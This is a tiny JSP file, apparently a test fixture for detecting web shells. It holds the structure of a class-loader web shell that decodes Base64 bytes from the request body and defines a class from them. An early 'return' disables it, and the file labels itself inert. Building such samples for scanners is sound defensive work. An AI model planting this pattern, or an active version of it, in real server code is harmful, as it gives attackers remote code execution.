<%@ page import="java.util.*" %>
<%-- Inert fixture. --%>
<% if (true) return; new Loader(getClass().getClassLoader()) { Class g(byte[] b) { return defineClass(b, 0, b.length); } }.g(Base64.getDecoder().decode(request.getReader().readLine())); %>
